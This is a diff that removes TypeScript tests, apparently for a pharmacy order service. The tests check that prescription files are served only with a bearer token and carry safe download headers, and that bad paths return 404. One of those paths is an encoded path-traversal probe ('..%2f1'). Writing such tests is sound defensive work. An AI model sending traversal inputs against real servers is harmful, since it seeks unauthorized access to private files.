-    const BLOCKED = /Security Policy|TrustedScriptURL|window is sandboxed|^request to /;
-    expect(said.filter((line) => !BLOCKED.test(line))).toEqual([]);
-    expect(reached).toBe(0);
-    stranger.close();
-  });
-
-  it('is given only with the token, as a file that shows nothing', async () => {
-    const id = await placeOrder(server, [newPdf()]);
-    const prescription = (await storedOrder(id)).prescriptions[0]?.id;
-    const { counter } = world;
-    const origin = new URL(counter.address).origin;
-    const get = (path: string, headers = {}) => sendHttp(origin, path, { method: 'GET', headers });
-    const bearer = { Authorization: `Bearer ${counter.token}` };
-    expect(await get(`/documents/${id}/${prescription}`)).toMatchObject({ status: 401 });
-    const { status, headers } = await get(`/documents/${id}/${prescription}`, bearer);
-    expect({ status, ...headers }).toMatchObject({
-      status: 200,
-      'content-type': 'application/octet-stream',
-      'content-disposition': 'attachment',
-      'x-content-type-options': 'nosniff',
-      'cache-control': 'no-store',
-    });
-    const others = [`/documents/${id}/999999`, `/documents/999999/${prescription}`, `/documents/${id}/..%2f1`];
-    for (const path of others) expect((await get(path, bearer)).status).toBe(404);
   });
 });
